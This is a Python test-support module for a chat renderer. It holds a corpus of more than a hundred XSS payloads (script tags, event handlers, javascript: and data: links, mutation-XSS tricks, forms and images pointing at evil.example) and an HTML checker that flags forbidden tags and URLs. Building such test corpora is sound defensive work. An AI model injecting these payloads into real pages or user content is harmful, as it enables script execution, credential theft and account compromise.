"""XSS payload corpus plus an HTML "inertness" checker.

Shared by the renderer unit tests, the browser tests and the security suite:
``XSS_PAYLOADS`` is a plain list of Markdown/HTML strings an attacker (or a
prompt-injected model) might emit; ``assert_inert(html)`` fails if rendered
HTML could run script, load third-party resources or submit/redirect anywhere.

The checker deliberately uses ``html.parser`` rather than regexes and has its
own URL logic, independent of ``conversations.markdown``, so a bug in the
renderer is not mirrored by the same bug in the test.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

XSS_PAYLOADS: list[str] = [
    # --- raw script tags -------------------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text before <script>alert(document.cookie)</script> text after",
    '<script type="module">import("https://evil.example/m.js")</script>',
    # --- event handlers --------------------------------------------------
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=# OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    "<p style=x onpointerenter=alert(1)>p</p>",
    # --- markdown links with dangerous schemes --------------------------
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#9;ascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\u006Aavascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](file:///etc/passwd)",
    # --- autolinks and reference links ----------------------------------
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: <javascript:alert(1)> 'title'",
    "[ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "![x][img]\n\n[img]: javascript:alert(1)",
    # --- raw html links / attributes ------------------------------------
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" target="_top">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    # --- frames, objects, forms, meta, base ------------------------------
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="https://evil.example/x.swf">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form action="https://evil.example/steal"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # --- style based ------------------------------------------------------
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="width:expression(alert(1))">x</div>',
    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    # --- svg / math -------------------------------------------------------
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    "</style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">click</math>',
    # --- images -----------------------------------------------------------
    "![x](https://evil.example/x.png)",
    "![x](http://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](HTTPS://EVIL.EXAMPLE/x.png)",
    '![x](https://evil.example/x.png "title")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/api/images/1/file/)',
    '![x](/api/images/1/file/" onerror="alert(1))',
    "<img src=https://evil.example/x.png>",
    '<img srcset="https://evil.example/x.png 1x">',
    "![a](https://evil.example/a.png)![b](https://evil.example/b.png)",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    # --- code fences / inline code containing html ------------------------
    "```html\n<script>alert(1)</script>\n```",
    "```\n<img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```javascript onload=alert(1)\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "    <iframe src=javascript:alert(1)></iframe>",
    # --- nested / broken / mXSS ------------------------------------------
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)"<b>x</b></a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<table><td><a href="javascript:alert(1)">x</a></td></table>',
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "**<img src=x onerror=alert(1)>**",
    # --- template / client-side injection (must remain plain text) --------
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}} ${7*7} <%= 7*7 %> {% debug %}",
    "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    '<div x-data x-init="alert(1)"></div>',
]


# Tags that must never appear in rendered output.  The first row is the policy
# list; the rest are extra elements a chat reply has no business creating.
_FORBIDDEN_TAGS = frozenset(
    {
        "script", "iframe", "object", "embed", "form", "meta", "base", "link",
        "style", "svg", "math",
        "frame", "frameset", "applet", "noscript", "template", "portal",
        "input", "button", "textarea", "select", "video", "audio", "source",
        "track", "xmp", "plaintext", "noembed", "isindex", "keygen", "title",
    }
)  # fmt: skip
# Attributes whose value is fetched/navigated to by the browser.
_URL_ATTRS = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "srcdoc", "data",
        "poster", "background", "dynsrc", "lowsrc", "ping", "codebase", "cite",
        "longdesc", "manifest", "icon",
    }
)  # fmt: skip
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Never emitted by the renderer and able to load resources or restyle the page.
_FORBIDDEN_ATTRS = frozenset({"style", "srcset", "srcdoc", "http-equiv", "formaction"})
_SCHEME_RE = re.compile(r"[a-z][a-z0-9+.-]*:")


def _squash(value: str) -> str:
    """Lower-case value, dropping whitespace/control/format chars that browsers may ignore."""
    return "".join(
        ch for ch in value if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"))
    ).lower()


def _is_same_origin_relative(value: str) -> bool:
    """True if an img src is a relative URL that stays on our origin."""
    url = _squash(value).replace("\\", "/")
    return bool(url) and not url.startswith("//") and not _SCHEME_RE.match(url)


class _InertChecker(HTMLParser):
    """Collects every dangerous tag/attribute found in an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # html.parser lower-cases names and already HTML-unescapes attribute
        # values exactly once, as a browser does.
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"forbidden tag <{tag}>")
        attr_map: dict[str, str] = {}
        for name, raw_value in attrs:
            value = raw_value or ""
            attr_map[name] = value
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name in _FORBIDDEN_ATTRS:
                self.problems.append(f"forbidden attribute {name}= on <{tag}>")
            if name in _URL_ATTRS and _squash(value).startswith(_DANGEROUS_SCHEMES):
                self.problems.append(f"dangerous URL {name}={value!r} on <{tag}>")
        if tag == "img" and "src" in attr_map and not _is_same_origin_relative(attr_map["src"]):
            self.problems.append(f"external image src={attr_map['src']!r}")
        # target=_blank without noopener allows reverse tabnabbing.
        if "target" in attr_map and "noopener" not in (attr_map.get("rel") or "").split():
            self.problems.append(f"target= without rel=noopener on <{tag}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        # A stray closing tag is harmless, but still means the renderer let a
        # forbidden element name through; report it.
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"forbidden end tag </{tag}>")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration <!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"unknown declaration <![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction <?{data}>")


def assert_inert(html: str) -> None:
    """Raise AssertionError if html could run script or load external content."""
    checker = _InertChecker()
    checker.feed(html)
    checker.close()
    assert not checker.problems, (
        "HTML is not inert:\n  " + "\n  ".join(checker.problems) + f"\n--- html ---\n{html}"
    )
